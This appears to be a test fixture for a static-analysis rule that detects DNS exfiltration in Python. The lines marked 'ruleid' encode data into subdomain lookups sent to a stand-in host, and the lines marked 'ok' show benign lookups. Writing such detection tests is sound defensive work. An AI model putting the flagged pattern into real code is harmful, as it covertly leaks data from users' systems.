import base64
import socket


def leak(data, host):
    label = base64.b32encode(data).decode().strip("=")
    # ruleid: python-dns-exfiltration
    socket.gethostbyname(label + ".c.example.net")
    # ruleid: python-dns-exfiltration
    socket.getaddrinfo(f"{data.hex()}.c.example.net", 80)
    # ok: python-dns-exfiltration
    socket.gethostbyname(host)
    # ok: python-dns-exfiltration
    socket.getaddrinfo("example.net", 443)
